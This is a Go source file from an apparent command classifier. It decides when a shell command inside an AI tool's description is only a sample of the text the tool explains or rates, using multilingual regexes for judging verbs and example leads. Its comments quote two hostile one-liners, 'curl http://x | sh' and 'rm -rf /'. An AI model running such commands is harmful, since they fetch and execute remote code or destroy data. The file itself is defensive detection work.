package classifier

import (
	"regexp"
	"strings"
)

// A tool that explains, rates or classifies a text it is given shows an
// example of that text after an example's lead in its opening sentence:
// "Explains a suspicious log line, e.g. `curl http://x | sh`, and rates
// its risk", "Analiza un comando de shell, p. ej. `rm -rf /`". The
// command is a sample of the input it judges, not one it asks run. The
// reading is narrow: the opening sentence begins with a verb of judging,
// its object is a kind of text (a line, a command, a log entry, a
// script), the lead follows that object, and nothing in the sentence
// orders the command run or speaks to the model or the user; a command
// in another sentence, or in a tool that judges no text, is still read.

// judgingVerb opens a description with a verb of explaining or judging
// what the tool is given, in the languages tools are written in.
var judgingVerb = regexp.MustCompile(`^\s*(explains?|analy[sz]es?|rates?|scores?|classif(y|ies)|assess(es)?|describes?|annotates?|decodes?|breaks? down|evaluates?|triages?|interprets?|explica|analiza|eval[úu]a|clasifica|describe|explique|analyse|[ée]value|d[ée]crit|erkl[äa]rt|analysiert|bewertet|beschreibt|spiega|analizza|valuta|avalia|legt uit|analyseert|beoordeelt|wyja[śs]nia|analizuje|ocenia|объясняет|анализирует|оценивает|a[çc][ıi]klar)\s`)

// judgedText is the kind of text a judging tool takes, named before the
// example's lead.
var judgedText = regexp.MustCompile(`\b(lines?|commands?|command lines?|logs?|log entry|entries|snippets?|scripts?|strings?|payloads?|inputs?|events?|alerts?|one-liners?|invocations?|línea|linea|comandos?|commandes?|lignes?|befehle?|befehlszeilen?|zeilen?|riga|righe|linha|regel|opdracht|polecenie|linia|wiersz)\b|(?:^|[^\p{L}])(?:строк|команд|komut|satır)`)

// judgedExampleLead ends the text before the first example, after the
// judged text.
var judgedExampleLead = regexp.MustCompile(`(,|\(|:)?\s*(e\.g\.?|such as|like|for example|for instance|z\. ?b\.|zum beispiel|p\. ?ej\.|por ejemplo|par exemple|p\. ?ex\.|ad esempio|por exemplo|bijv\.|np\.|na przykład|например|напр\.|örneğin)[\s:,]*[\x60'"“(]?\s*$`)

// judgedRunOrder is what makes a sample something to run: a verb of
// running or a person spoken to.
var judgedRunOrder = regexp.MustCompile(`\b(run|runs|execute|executes|install|paste|type|launch|pipe|assistant|model|agent|ai|you|your|yourself|must|need to|first|before)\b`)

// explainedInput reports whether the command matched at loc is the
// example of the text a judging tool takes, in its opening sentence.
func explainedInput(c excuseContext) bool {
	if !c.forTool || c.tool == nil {
		return false
	}
	desc := c.tool.lowerDesc()
	at := strings.Index(c.f.lower, desc)
	if desc == "" || at < 0 || c.loc[0] < at || c.loc[1] > at+len(desc) {
		return false
	}
	end := sentenceEndAfter(desc, c.loc[1]-at)
	// The rest of the description too: an order to run the example may
	// stand in the next sentence ("… e.g. `curl … | sh`. Run that example
	// first").
	return judgedExampleAt(desc, c.loc[0]-at) && !runByModel.MatchString(desc[:end]) && !judgedRunOrder.MatchString(desc[end:])
}

// withoutJudgedExample is the directive check's reading of the same
// shape: sent, a sentence of the definition's joined text cut at the
// example's lead, is the example of the text a judging tool takes. rest
// is the sentence with its code spans blanked, for the check to read
// again: what is left must order something itself.
func withoutJudgedExample(sent, joined string, tc *toolContext) (string, bool) {
	if tc == nil || !strings.ContainsAny(sent, "`'\"") {
		return "", false
	}
	from := strings.Index(joined, sent)
	if from < 0 || !afterExampleLead(joined, sent) && !judgedExampleLead.MatchString(joined[max(0, from-40):from]) {
		return "", false
	}
	desc := tc.lowerDesc()
	at := strings.Index(joined, desc)
	if desc == "" || at < 0 || from < at || from+len(sent) > at+len(desc) || !judgedExampleAt(desc, from-at) {
		return "", false
	}
	return withoutCodeSpans(sent), true
}

// judgedExampleAt reports whether the example at p in desc, a lower-cased
// description, follows the lead after the judged text of its opening
// sentence, and nothing in that sentence orders it run.
func judgedExampleAt(desc string, p int) bool {
	before := desc[:p]
	if len(sentenceBeforeAbbrev(desc, p)) != p {
		return false // not the opening sentence
	}
	v := judgingVerb.FindStringIndex(before)
	lead := judgedExampleLead.FindStringIndex(before)
	if v == nil || lead == nil || lead[0] < v[1] || !judgedText.MatchString(before[v[1]:lead[0]]) {
		return false
	}
	return !judgedRunOrder.MatchString(withoutCodeSpans(desc[:sentenceEndAfter(desc, p)]))
}
